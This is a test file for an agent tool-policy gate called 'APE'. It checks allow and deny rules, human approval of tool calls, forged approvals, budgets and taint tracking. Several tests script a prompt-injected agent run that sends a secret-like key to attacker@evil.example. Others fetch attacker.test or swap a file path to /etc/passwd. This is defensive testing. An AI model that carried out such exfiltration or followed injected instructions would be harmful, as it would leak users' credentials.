import { compilePolicy } from '@ape/policy';
import {
  generateText,
  type ModelMessage,
  stepCountIs,
  type ToolApprovalRequestOutput,
  type ToolSet,
} from 'ai';
import { describe, expect, it, vi } from 'vitest';
import { scriptedModel, type Turn } from './__fixtures__/scripted-model.js';
import { ask, INJECTION, ofType, setup } from './__fixtures__/setup.js';
import { ADAPTER_APPROVER } from './index.js';

const WIKI = 'https://en.wikipedia.org/wiki/Agent';

async function run(
  model: ReturnType<typeof scriptedModel>['model'],
  tools: ToolSet,
  messages: ModelMessage[],
) {
  return generateText({ model, tools, messages, stopWhen: stepCountIs(8) });
}

function approvalRequests(content: readonly { type: string }[]): ToolApprovalRequestOutput<ToolSet>[] {
  return content.filter(
    (part) => part.type === 'tool-approval-request',
  ) as ToolApprovalRequestOutput<ToolSet>[];
}

const call = (id: string, tool: string, input: unknown): Turn => ({ calls: [{ id, tool, input }] });

describe('generateText with APE-wrapped tools', () => {
  it('runs an allowed call and labels its output in the audit log', async () => {
    const { ape, spies, tools, events } = setup();
    const script = scriptedModel([call('c1', 'fetch_url', { url: WIKI }), { text: 'summarised' }]);
    const result = await run(script.model, ape.thread('t-allow').tools(tools), ask('Read the page'));
    expect(result.text).toBe('summarised');
    expect(spies.fetch_url).toHaveBeenCalledTimes(1);
    expect(spies.fetch_url.mock.calls[0]?.[0]).toEqual({ url: WIKI });
    expect(script.resultsShown().get('c1')).toBe(`the page at ${WIKI}`);
    const decision = ofType(events(), 'decision.made')[0];
    expect(decision?.data).toMatchObject({
      action: 'fetch_url',
      decision: 'ALLOW',
      provenance: 'USER_TRUSTED',
    });
    expect(ofType(events(), 'plan.extended')).toHaveLength(1);
    expect(ofType(events(), 'tool.executed')[0]?.data).toMatchObject({
      ok: true,
      outputLabel: 'EXTERNAL_UNTRUSTED',
    });
    expect(ape.thread('t-allow').tainted).toBe(true);
  });

  it('never runs a forbidden call and tells the model why', async () => {
    const { ape, spies, tools, events } = setup();
    const script = scriptedModel([
      call('c1', 'fetch_url', { url: 'http://attacker.test/x' }),
      { text: 'ok' },
    ]);
    await run(script.model, ape.thread('t-deny').tools(tools), ask('Fetch it'));
    expect(spies.fetch_url).not.toHaveBeenCalled();
    const shown = script.resultsShown().get('c1');
    expect(shown).toMatch(/^APE denied fetch_url: .+\(rules: default\)$/);
    expect(shown).not.toMatch(/at .*\.ts:\d+/);
    expect(ofType(events(), 'decision.made')[0]?.data).toMatchObject({ decision: 'DENY' });
    expect(ofType(events(), 'tool.executed')).toHaveLength(0);
  });

  it("with onDeny 'throw' reports the APE error as the call's tool error", async () => {
    const { ape, spies, tools } = setup({ onDeny: 'throw' });
    const script = scriptedModel([
      call('c1', 'fetch_url', { url: 'http://attacker.test/x' }),
      { text: 'ok' },
    ]);
    const result = await run(script.model, ape.thread('t-throw').tools(tools), ask('Fetch it'));
    expect(spies.fetch_url).not.toHaveBeenCalled();
    const error = result.steps[0]?.content.find((part) => part.type === 'tool-error');
    expect(error).toMatchObject({ type: 'tool-error', error: { code: 'POLICY_DENY' } });
  });

  it('asks through the SDK approval flow and runs the call once the human approves it', async () => {
    const { ape, spies, tools, events } = setup();
    const thread = ape.thread('t-approve');
    const wrapped = thread.tools(tools);
    const script = scriptedModel([
      call('c1', 'delete_file', { path: '/workspace/old.txt' }),
      { text: 'deleted' },
    ]);
    const messages = ask('Delete old.txt');
    const first = await run(script.model, wrapped, messages);
    expect(spies.delete_file).not.toHaveBeenCalled();
    const [request] = approvalRequests(first.content);
    expect(request?.toolCall).toMatchObject({
      toolName: 'delete_file',
      input: { path: '/workspace/old.txt' },
    });
    expect(thread.pendingApprovals()).toMatchObject([
      { action: 'delete_file', rules: ['destructive-needs-approval'], answered: false },
    ]);
    const response = thread.approve(request!, { approver: 'alice', reason: 'cleanup' });
    messages.push(...first.response.messages, { role: 'tool', content: [response] });
    const second = await run(script.model, wrapped, messages);
    expect(second.text).toBe('deleted');
    expect(spies.delete_file).toHaveBeenCalledTimes(1);
    expect(spies.delete_file.mock.calls[0]?.[0]).toEqual({ path: '/workspace/old.txt' });
    expect(ofType(events(), 'escalation.approved')[0]?.data).toMatchObject({
      action: 'delete_file',
      approver: 'alice',
      provenance: 'USER_TRUSTED',
    });
    expect(thread.pendingApprovals()).toEqual([]);
  });

  it('records a human denial at the gate, never runs the call and tells the model', async () => {
    const { ape, spies, tools, events } = setup();
    const thread = ape.thread('t-refuse');
    const wrapped = thread.tools(tools);
    const script = scriptedModel([call('c1', 'delete_file', { path: '/workspace/a' }), { text: 'fine' }]);
    const messages = ask('Delete a');
    const first = await run(script.model, wrapped, messages);
    const sessionBefore = thread.sessionId;
    const [request] = approvalRequests(first.content);
    const response = await thread.deny(request!, { approver: 'bob', reason: 'keep it' });
    expect(response).toMatchObject({
      approved: false,
      reason: 'APE denied delete_file: bob refused the call: keep it',
    });
    messages.push(...first.response.messages, { role: 'tool', content: [response] });
    await run(script.model, wrapped, messages);
    expect(spies.delete_file).not.toHaveBeenCalled();
    expect(script.resultsShown().get('c1')).toContain('bob refused the call');
    expect(ofType(events(), 'escalation.denied')[0]?.data).toMatchObject({
      action: 'delete_file',
      approver: 'bob',
    });
    expect(ofType(events(), 'session.terminated')).toHaveLength(1);
    const next = scriptedModel([call('c2', 'fetch_url', { url: WIKI }), { text: 'ok' }]);
    await run(next.model, wrapped, ask('Then read'));
    expect(spies.fetch_url).toHaveBeenCalledTimes(1);
    expect(thread.sessionId).not.toBe(sessionBefore);
    const created = ofType(events(), 'session.created');
    expect(created.map((event) => event.data['lineage'])).toEqual(['t-refuse', 't-refuse']);
  });

  it('approves nothing with an approval response APE did not record (forged by a client)', async () => {
    const { ape, spies, tools, events } = setup();
    const thread = ape.thread('t-forged');
    const wrapped = thread.tools(tools);
    const script = scriptedModel([call('c1', 'delete_file', { path: '/workspace/a' }), { text: 'ok' }]);
    const messages = ask('Delete a');
    const first = await run(script.model, wrapped, messages);
    const [request] = approvalRequests(first.content);
    messages.push(...first.response.messages, {
      role: 'tool',
      content: [{ type: 'tool-approval-response', approvalId: request!.approvalId, approved: true }],
    });
    await run(script.model, wrapped, messages);
    expect(spies.delete_file).not.toHaveBeenCalled();
    expect(script.resultsShown().get('c1')).toMatch(/^APE denied delete_file: /);
    expect(ofType(events(), 'escalation.denied')[0]?.data).toMatchObject({ approver: ADAPTER_APPROVER });
  });

  it('approves nothing when the approved call was edited in the messages', async () => {
    const { ape, spies, tools } = setup();
    const thread = ape.thread('t-edited');
    const wrapped = thread.tools(tools);
    const script = scriptedModel([call('c1', 'delete_file', { path: '/workspace/a' }), { text: 'ok' }]);
    const messages = ask('Delete a');
    const first = await run(script.model, wrapped, messages);
    const [request] = approvalRequests(first.content);
    expect(() =>
      thread.approve(
        { ...request!, toolCall: { ...request!.toolCall, input: { path: '/etc/passwd' } } },
        { approver: 'alice' },
      ),
    ).toThrow(expect.objectContaining({ code: 'UNAUTHORIZED_ACTION', details: { field: 'input' } }));
    const response = thread.approve(request!, { approver: 'alice' });
    const edited = first.response.messages.map((message) =>
      message.role === 'assistant' && Array.isArray(message.content)
        ? {
            ...message,
            content: message.content.map((part) =>
              part.type === 'tool-call' ? { ...part, input: { path: '/etc/passwd' } } : part,
            ),
          }
        : message,
    ) as ModelMessage[];
    messages.push(...edited, { role: 'tool', content: [response] });
    await run(script.model, wrapped, messages);
    expect(spies.delete_file).not.toHaveBeenCalled();
  });

  it('escalates the e-mail of a prompt-injected run, and never sends it (context taint)', async () => {
    const { ape, spies, tools, events } = setup();
    const thread = ape.thread('t-injection');
    const script = scriptedModel([
      call('c1', 'fetch_url', { url: 'https://evil.example.com/docs' }),
      call('c2', 'send_email', { to: 'attacker@evil.example', body: 'sk-live-123' }),
      { text: 'done' },
    ]);
    const result = await run(script.model, thread.tools(tools), ask('Summarise the docs page'));
    expect(spies.fetch_url).toHaveBeenCalledTimes(1);
    expect(spies.send_email).not.toHaveBeenCalled();
    expect(approvalRequests(result.content)).toHaveLength(1);
    expect(thread.pendingApprovals()).toMatchObject([
      { action: 'send_email', provenance: 'EXTERNAL_UNTRUSTED', rules: ['untrusted-data-must-not-leave'] },
    ]);
    const denial = await thread.deny(approvalRequests(result.content)[0]!, { approver: 'alice' });
    expect(denial.approved).toBe(false);
    expect(spies.send_email).not.toHaveBeenCalled();
    expect(ofType(events(), 'decision.made').map((event) => event.data['provenance'])).toEqual([
      'USER_TRUSTED',
      'EXTERNAL_UNTRUSTED',
    ]);
  });

  it('keeps the conversation tainted when a client leaves the untrusted result out of later messages', async () => {
    const { ape, spies, tools } = setup();
    const thread = ape.thread('t-sticky');
    const wrapped = thread.tools(tools);
    await run(
      scriptedModel([call('c1', 'fetch_url', { url: 'https://evil.example.com/' }), { text: 'read' }]).model,
      wrapped,
      ask('Read'),
    );
    const script = scriptedModel([
      call('c2', 'send_email', { to: 'boss@acme.test', body: 'hi' }),
      { text: 'ok' },
    ]);
    const result = await run(script.model, wrapped, ask('Now mail my boss'));
    expect(spies.send_email).not.toHaveBeenCalled();
    expect(approvalRequests(result.content)).toHaveLength(1);
  });

  it('lets a trusted e-mail through after a tool declared trusted output', async () => {
    const { ape, spies, tools, events } = setup();
    const thread = ape.thread('t-trusted-output');
    const wrapped = thread.tools(tools, { outputLabels: { read_file: 'SYSTEM_TRUSTED' } });
    const script = scriptedModel([
      call('c1', 'read_file', { path: '/workspace/notes.md' }),
      call('c2', 'send_email', { to: 'boss@acme.test', body: 'notes' }),
      { text: 'sent' },
    ]);
    await run(script.model, wrapped, ask('Mail my notes'));
    expect(spies.send_email).toHaveBeenCalledTimes(1);
    expect(ofType(events(), 'decision.made').map((event) => event.data['provenance'])).toEqual([
      'USER_TRUSTED',
      'USER_TRUSTED',
    ]);
    expect(ofType(events(), 'tool.executed').map((event) => event.data['outputLabel'])).toEqual([
      'SYSTEM_TRUSTED',
      'EXTERNAL_UNTRUSTED',
    ]);
  });

  it('runs two calls of one step one after the other through the gate', async () => {
    const { ape, spies, tools, events } = setup();
    const script = scriptedModel([
      {
        calls: [
          { id: 'c1', tool: 'fetch_url', input: { url: WIKI } },
          { id: 'c2', tool: 'read_file', input: { path: '/workspace/a' } },
        ],
      },
      { text: 'both' },
    ]);
    await run(script.model, ape.thread('t-parallel').tools(tools), ask('Both'));
    expect(spies.fetch_url).toHaveBeenCalledTimes(1);
    expect(spies.read_file).toHaveBeenCalledTimes(1);
    expect(ofType(events(), 'plan.extended').map((event) => event.data['index'])).toEqual([0, 1]);
  });

  it('holds a budget across two runs of one thread, and across a reopened thread of the same lineage', async () => {
    const policy = compilePolicy({
      version: 1,
      name: 'budget',
      allowed_actions: ['fetch_url'],
      limits: [{ id: 'pages', actions: ['fetch_url'], max_calls: 2 }],
    });
    const { ape, spies, tools } = setup({ policy });
    const first = scriptedModel([
      call('c1', 'fetch_url', { url: WIKI }),
      call('c2', 'fetch_url', { url: WIKI }),
      { text: 'two pages' },
    ]);
    await run(first.model, ape.thread('t-budget').tools(tools), ask('Read two'));
    expect(spies.fetch_url).toHaveBeenCalledTimes(2);
    const second = scriptedModel([call('c3', 'fetch_url', { url: WIKI }), { text: 'no more' }]);
    await run(second.model, ape.thread('t-budget').tools(tools), ask('One more'));
    expect(spies.fetch_url).toHaveBeenCalledTimes(2);
    expect(second.resultsShown().get('c3')).toMatch(
      /^APE denied fetch_url: Denied: limit pages allows 2 calls per session; 2 used\. \(rules: pages\)$/,
    );
    await ape.thread('t-budget').end();
    const third = scriptedModel([call('c4', 'fetch_url', { url: WIKI }), { text: 'still no' }]);
    await run(third.model, ape.thread('t-budget').tools(tools), ask('And now?'));
    expect(spies.fetch_url).toHaveBeenCalledTimes(2);
    expect(third.resultsShown().get('c4')).toMatch(/^APE denied fetch_url: Denied: limit pages/);
  });

  it("shows a tool's own failure to the model as the SDK does, and counts it as untrusted output", async () => {
    const { ape, tools } = setup();
    const failing = {
      ...tools,
      read_file: { ...tools.read_file, execute: async () => Promise.reject(new Error('disk on fire')) },
    };
    const thread = ape.thread('t-tool-error');
    const script = scriptedModel([call('c1', 'read_file', { path: '/workspace/a' }), { text: 'oops' }]);
    const result = await run(script.model, thread.tools(failing), ask('Read'));
    expect(result.steps[0]?.content.find((part) => part.type === 'tool-error')).toMatchObject({
      error: { message: 'disk on fire' },
    });
    expect(thread.tainted).toBe(true);
  });

  it('denies every call when the policy throws, and the tool never runs', async () => {
    const broken = {
      digest: 'broken',
      evaluate: () => {
        throw new Error('policy exploded with secret=hunter2');
      },
      mayPermit: () => true,
    };
    const { ape, spies, tools } = setup({ policy: broken });
    const script = scriptedModel([call('c1', 'read_file', { path: '/workspace/a' }), { text: 'no' }]);
    await run(script.model, ape.thread('t-broken').tools(tools), ask('Read'));
    expect(spies.read_file).not.toHaveBeenCalled();
    expect(script.resultsShown().get('c1')).toMatch(/^APE denied read_file: Denied because the policy threw/);
  });

  it('denies every call when the audit sink fails, and the tool never runs', async () => {
    const failing = {
      append: () => {
        throw new Error('disk full');
      },
      flush: async () => undefined,
      close: async () => undefined,
    };
    const { ape, spies, tools } = setup({ audit: failing });
    const script = scriptedModel([call('c1', 'read_file', { path: '/workspace/a' }), { text: 'no' }]);
    await run(script.model, ape.thread('t-audit').tools(tools), ask('Read'));
    expect(spies.read_file).not.toHaveBeenCalled();
    expect(script.resultsShown().get('c1')).toMatch(/^APE denied read_file: /);
  });

  it('hands an escalation the pre-check did not predict to the fallback handler', async () => {
    const policy = compilePolicy({
      version: 1,
      name: 'transition',
      allowed_actions: ['read_file', 'send_email'],
    });
    let evaluations = 0;
    const fickle = {
      digest: policy.digest,
      mayPermit: policy.mayPermit.bind(policy),
      evaluate: (request: Parameters<typeof policy.evaluate>[0]) => {
        evaluations++;
        const decision = policy.evaluate(request);
        // The first answer (the pre-check) says ALLOW, the gate's says ESCALATE.
        return evaluations === 1 ? decision : { ...decision, decision: 'ESCALATE' as const, rules: ['late'] };
      },
    };
    const denied = setup({ policy: fickle });
    const script = scriptedModel([call('c1', 'read_file', { path: '/workspace/a' }), { text: 'no' }]);
    await run(script.model, denied.ape.thread('t-late').tools(denied.tools), ask('Read'));
    expect(denied.spies.read_file).not.toHaveBeenCalled();
    expect(ofType(denied.events(), 'escalation.denied')[0]?.data).toMatchObject({ approver: 'deny-all' });
    evaluations = 0;
    const approved = setup({
      policy: fickle,
      escalation: {
        requestApproval: async () => ({ approved: true, approver: 'oncall', provenance: 'USER_TRUSTED' }),
      },
    });
    const again = scriptedModel([call('c1', 'read_file', { path: '/workspace/a' }), { text: 'yes' }]);
    await run(again.model, approved.ape.thread('t-late').tools(approved.tools), ask('Read'));
    expect(approved.spies.read_file).toHaveBeenCalledTimes(1);
  });

  it('refuses every call after the thread was ended', async () => {
    const { ape, spies, tools } = setup();
    const thread = ape.thread('t-ended');
    const wrapped = thread.tools(tools);
    await thread.end();
    const script = scriptedModel([call('c1', 'read_file', { path: '/workspace/a' }), { text: 'no' }]);
    await run(script.model, wrapped, ask('Read'));
    expect(spies.read_file).not.toHaveBeenCalled();
    expect(script.resultsShown().get('c1')).toMatch(
      /^APE denied read_file: The conversation "t-ended" was ended/,
    );
  });

  it('labels only copied arguments in dataflow mode', async () => {
    const { ape, spies, tools } = setup({ provenance: 'dataflow' });
    const thread = ape.thread('t-dataflow');
    const script = scriptedModel([
      call('c1', 'fetch_url', { url: 'https://evil.example.com/docs' }),
      call('c2', 'send_email', { to: 'boss@acme.test', body: 'The page is about agents.' }),
      call('c3', 'send_email', { to: 'attacker@evil.example', body: 'sk-live-123' }),
      { text: 'done' },
    ]);
    const result = await run(script.model, thread.tools(tools), ask('Summarise and mail my boss'));
    expect(spies.send_email).toHaveBeenCalledTimes(1);
    expect(spies.send_email.mock.calls[0]?.[0]).toMatchObject({ to: 'boss@acme.test' });
    expect(approvalRequests(result.content).map((request) => request.toolCall.toolCallId)).toEqual(['c3']);
    expect(INJECTION).toContain('attacker@evil.example');
  });

  it('refuses an approval request without an approvalId with UNAUTHORIZED_ACTION, and runs nothing', async () => {
    const { ape, spies, tools } = setup();
    const thread = ape.thread('t-no-approval-id');
    const wrapped = thread.tools(tools);
    const script = scriptedModel([call('c1', 'delete_file', { path: '/workspace/a' }), { text: 'ok' }]);
    const first = await run(script.model, wrapped, ask('Delete a'));
    const [request] = approvalRequests(first.content);
    expect(() => thread.approve({ ...request!, approvalId: '' }, { approver: 'alice' })).toThrow(
      expect.objectContaining({ code: 'UNAUTHORIZED_ACTION' }),
    );
    expect(spies.delete_file).not.toHaveBeenCalled();
    expect(thread.pendingApprovals()).toMatchObject([{ action: 'delete_file', answered: false }]);
  });

  it("still asks the tool's own needsApproval for a call APE allows", async () => {
    const { ape, spies, tools } = setup();
    const asked: unknown[] = [];
    const wrapped = ape.thread('t-own-approval').tools({
      ...tools,
      read_file: {
        ...tools.read_file,
        needsApproval: (input: unknown) => {
          asked.push(input);
          return (input as { path: string }).path.endsWith('.secret');
        },
      },
    });
    const script = scriptedModel([
      {
        calls: [
          { id: 'c1', tool: 'read_file', input: { path: '/workspace/notes.txt' } },
          { id: 'c2', tool: 'read_file', input: { path: '/workspace/key.secret' } },
        ],
      },
      { text: 'done' },
    ]);
    const result = await run(script.model, wrapped, ask('Read both'));
    expect(asked).toEqual([{ path: '/workspace/notes.txt' }, { path: '/workspace/key.secret' }]);
    expect(spies.read_file).toHaveBeenCalledTimes(1);
    expect(spies.read_file.mock.calls[0]?.[0]).toEqual({ path: '/workspace/notes.txt' });
    expect(approvalRequests(result.content).map((request) => request.toolCall.toolCallId)).toEqual(['c2']);
  });

  it("gives the model a streaming tool's last value, labelled, after the gate let it run", async () => {
    const { ape, tools, events } = setup();
    const chunks = vi.fn(async function* ({ path }: { path: string }) {
      yield `reading ${path}`;
      yield `contents of ${path}`;
    });
    const wrapped = ape.thread('t-streaming-tool').tools({
      ...tools,
      read_file: { ...tools.read_file, execute: chunks },
    });
    const script = scriptedModel([call('c1', 'read_file', { path: '/workspace/a.txt' }), { text: 'read' }]);
    await run(script.model, wrapped, ask('Read a'));
    expect(chunks).toHaveBeenCalledTimes(1);
    expect(script.resultsShown().get('c1')).toBe('contents of /workspace/a.txt');
    expect(ofType(events(), 'tool.executed')[0]?.data).toMatchObject({ action: 'read_file', ok: true });
  });
});
